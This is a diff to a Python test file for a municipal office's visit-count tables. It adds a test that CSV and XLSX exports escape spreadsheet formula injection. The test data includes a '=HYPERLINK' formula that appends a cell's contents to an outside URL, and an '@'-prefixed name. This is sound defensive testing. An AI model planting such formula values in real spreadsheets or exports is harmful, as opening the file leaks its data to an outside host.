@@ -1,13 +1,15 @@
 """The office's own table from what was counted: fiscal years, until when, and one judgement over all tables. Pure."""
 
 import datetime as dt
+import io
 import random
+import zipfile
 from collections.abc import Iterator
 
 import pytest
 from flask import Flask
 
-from handlers.console import tables
+from handlers.console import table_files, tables
 from handlers.console.tables import Book, Table, VisitNames
 from storage.fiscal_years import FiscalYear, months_between
 from storage.totals import Counted
@@ -178,6 +180,21 @@ def test_a_place_with_few_visits_can_not_be_had_from_the_others_and_the_sum() ->
     assert places["愛別町役場"] == "5未満"
     assert [places[name] for name in ("旭川市役所", "鷹栖町役場", "計")].count("X") == 1
     assert places["計"] == row(book, "visit", "予約が決まった")[0], "one number has one face in all tables"
+
+
+def test_a_name_is_no_formula_in_excel() -> None:
+    """A clerk may call a place as they like, and somebody else opens the file."""
+    names = {"a": '=HYPERLINK("https://example.com/?"&A1)', "b": "@ホーム", "c": "https://example.com"}
+    visits = booked(*((place, "oath", 9) for place in names))
+    book = tables.book(counted(in_2026_05=visits), "2026-12", JANUARY, VisitNames(names, {"oath": "宣誓"}))
+    found = table(book, "visit-place")
+    rows = [line for line in table_files.as_csv(book, found).decode("utf-8-sig").splitlines() if "9" in line]
+    assert rows == ['"\'=HYPERLINK(""https://example.com/?""&A1)",9', "'@ホーム,9", "https://example.com,9"]
+    with zipfile.ZipFile(io.BytesIO(table_files.as_xlsx(book, [found]))) as parts:
+        sheet, texts = parts.read("xl/worksheets/sheet1.xml"), parts.read("xl/sharedStrings.xml").decode()
+    assert b"<f>" not in sheet
+    assert b"hyperlink" not in sheet.lower()
+    assert all(name in texts for name in ("=HYPERLINK(", "@ホーム")), "the names as they are"
 
 
 def test_what_was_not_counted_together_breaks_no_table() -> None:
